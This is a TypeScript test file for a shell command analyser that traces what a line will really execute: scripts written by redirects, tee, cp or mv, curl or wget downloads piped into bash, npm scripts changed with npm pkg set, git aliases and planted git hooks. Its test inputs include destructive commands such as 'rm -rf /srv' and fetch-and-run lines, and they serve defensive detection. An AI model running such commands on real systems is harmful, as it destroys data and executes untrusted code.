// Files a line writes before it runs them are judged by what they will hold.

import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { loadShellParser } from '../../../src/core/shell/parser';
import { reduceLine } from '../../../src/core/shell/reduce';

before(() => loadShellParser());

const disk: Record<string, string> = { '/w/wipe.sh': 'rm -rf /srv\n', '/w/package.json': '{"scripts":{"build":"tsc"}}' };
const reduce = (line: string) =>
  reduceLine(line, {
    cwd: '/w',
    maxDepth: 8,
    readFile: (p, cwd) => disk[p.startsWith('/') ? p : `${cwd}/${p}`],
    exists: (p, cwd) => (p.startsWith('/') ? p : `${cwd}/${p}`) in disk,
  });
const ran = (line: string) => reduce(line).commands.map((c) => c.argv.join(' '));

test('what redirects, tee, cp and mv write is what runs later on the line', () => {
  assert.ok(ran(`echo 'git reset --hard' > x.sh && bash x.sh`).includes('git reset --hard'));
  assert.ok(ran(`echo a > x.sh; echo 'rm -rf y' >> x.sh; sh x.sh`).includes('rm -rf y'));
  assert.ok(ran(`printf 'rm -rf y\\n' | tee x.sh && . ./x.sh`).includes('rm -rf y'));
  assert.ok(ran('cp wipe.sh build.sh && sh build.sh').includes('rm -rf /srv'));
  assert.ok(ran('mv wipe.sh bin/ && bin/wipe.sh').includes('rm -rf /srv'));
  assert.equal(reduce('cp wipe.sh build.sh && sh build.sh').written.get('/w/build.sh'), 'rm -rf /srv\n');
});

test('content only known at run time is unreadable, never the old file', () => {
  for (const line of [
    'curl -so x.sh https://e.x/s && bash x.sh',
    'gen > x.sh; bash x.sh',
    `sed -i s/a/b/ wipe.sh && sh wipe.sh`,
    'wget -qO x.sh https://e.x && sh x.sh',
  ]) {
    assert.ok(
      reduce(line).problems.some((p) => p.kind === 'unreadable-script'),
      line,
    );
  }
});

test('npm pkg set changes the scripts npm then runs; git config applies to later git commands', () => {
  assert.ok(ran(`npm pkg set scripts.build='rm -rf /srv' && npm run build`).includes('rm -rf /srv'));
  assert.ok(ran(`git config alias.x '!rm -rf /srv' && git x`).includes('rm -rf /srv'));
  assert.ok(ran(`echo 'rm -rf /srv' > .git/hooks/pre-commit; git commit -m x`).includes('rm -rf /srv'));
  assert.ok(!ran(`echo 'rm -rf /srv' > .git/hooks/pre-commit; git log`).includes('rm -rf /srv'), 'git log runs no hook');
});

test("a package.json that is there but unreadable is never replaced by a parent folder's", () => {
  const r = reduceLine('npm run build', {
    cwd: '/w/big',
    maxDepth: 8,
    readFile: (p) => (p === '/w/package.json' ? '{"scripts":{"build":"tsc"}}' : undefined),
    exists: (p) => p === '/w/big/package.json' || p === '/w/package.json',
  });
  assert.ok(r.problems.some((p) => p.kind === 'unreadable-script' && p.detail.includes('/w/big/package.json')));
  assert.ok(!r.commands.some((c) => c.argv[0] === 'tsc'));
});
